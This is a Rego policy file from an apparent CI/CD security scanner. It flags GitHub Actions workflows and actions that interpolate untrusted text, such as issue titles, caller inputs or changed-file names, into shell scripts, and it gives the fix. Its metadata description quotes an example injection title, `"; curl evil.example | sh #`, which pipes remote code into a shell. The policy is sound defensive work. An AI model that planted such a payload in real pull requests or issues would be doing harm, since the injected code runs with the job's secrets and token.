# METADATA
# title: Text of strangers is run as a program
# description: |
#   An expression is put into the script before the shell reads it. Whoever opens an issue or a pull request with a
#   title such as `"; curl evil.example | sh #` runs commands with the secrets and the token of the job.
# related_resources:
#   - ref: https://docs.github.com/en/actions/reference/security/secure-use#understanding-the-risk-of-script-injections
#     description: Script injections
# schemas:
#   - input: schema.review
# custom:
#   severity: critical
#   remediation: >-
#     Hand the value over in `env` and use it as a quoted variable: `env: {TITLE: ${{ github.event.issue.title }}}`,
#     `run: echo "$TITLE"`.
#   resources:
#     - workflow
#     - action
#   topics:
#     - gha-script-injection
#   frameworks:
#     nist-800-53:
#       - "SI-10"
#     openssf-scorecard:
#       - "Dangerous-Workflow"
#     owasp-cicd:
#       - "CICD-SEC-4"
package policies.github_actions.script_injection

import data.policies.lib.actions
import data.policies.lib.finding

deny contains finding.on(script.resource, script.path, message) if {
	some script in actions.scripts
	some expression in actions.expressions(script.text)

	_is_foreign(script, expression)
	message := $"{script.resource.address} runs {expression}, which strangers write; expected it in env, as a variable"
}

# Callers of a workflow or action may hand on what strangers write; who starts it by hand may write already.
warn contains finding.on(script.resource, script.path, message) if {
	some script in actions.scripts
	some expression in actions.expressions(script.text)

	some name in _free_inputs(script.resource)
	regex.match($"\\binputs\\.{name}\\b", expression)
	not regex.match(_harmless, expression)
	message := $"{script.resource.address} runs {expression}, which its caller writes; expected it in env, as a variable"
}

# So may a file be called that was merged.
warn contains finding.on(script.resource, script.path, message) if {
	some script in actions.scripts
	some expression in actions.expressions(script.text)

	_is_listed(script, expression)
	not _is_foreign(script, expression)
	message := $"{script.resource.address} runs {expression}, names of changed files; expected it in env, as a variable"
}

_is_foreign(_, expression) if actions.is_tainted(expression)

# A variable that holds the text is as bad where an expression puts it into the script.
_is_foreign(script, expression) if {
	some holder in [script.resource.after, script.job, script.step.spec]
	some name, value in holder.env
	is_string(value)
	lower($"env.{name}") == expression
	actions.has_taint(value)
}

# So does what a matrix takes from there.
_is_foreign(script, expression) if {
	startswith(expression, "matrix.")
	walk(script.job.strategy.matrix, [path, value])
	is_string(value)
	some name in path
	is_string(name)
	lower($"matrix.{name}") == expression
	actions.has_taint(value)
}

# What lists changed files or looks up a branch gives names that strangers choose, in a pull request.
_is_foreign(script, expression) if {
	_is_listed(script, expression)
	count(actions.triggers(script.resource) - _after_review) > 0
}

_is_foreign(script, expression) if {
	script.resource.type == "action"
	_is_listed(script, expression)
}

_after_review := {"push", "release", "schedule", "workflow_dispatch"}

_is_listed(script, expression) if {
	some other in _told[script.resource.address]
	regex.match($"\\bsteps\\.{lower(other.spec.id)}\\.outputs\\.", expression)
	not regex.match(`_(any_)?(changed|modified|deleted)$|_count$|\.outputs\.(pr_number|sha|head_sha)$`, expression)
}

_told[step.resource.address] contains step if {
	some step in actions.steps
	regex.match(`^[\w-]+$`, step.spec.id)
	actions.action_of(step.spec.uses) in {
		"jitterbit/get-changed-files", "step-security/changed-files", "tj-actions/branch-names", "tj-actions/changed-files",
		"trilom/file-changes-action", "xt0rted/pull-request-comment-branch",
	}
}

_free_inputs(resource) := _inputs(resource.after) if resource.type == "action"

_free_inputs(resource) := _inputs(resource.after.on.workflow_call) if resource.type == "workflow"

_inputs(holder) := {lower(name) |
	some name, input_ in holder.inputs
	not object.get(_object(input_), "type", "string") in {"boolean", "number", "choice", "environment"}
}

_object(value) := value if is_object(value)

_object(value) := {} if not is_object(value)

_harmless := `^!|[!=]=|^(contains|startswith|endswith)\(`
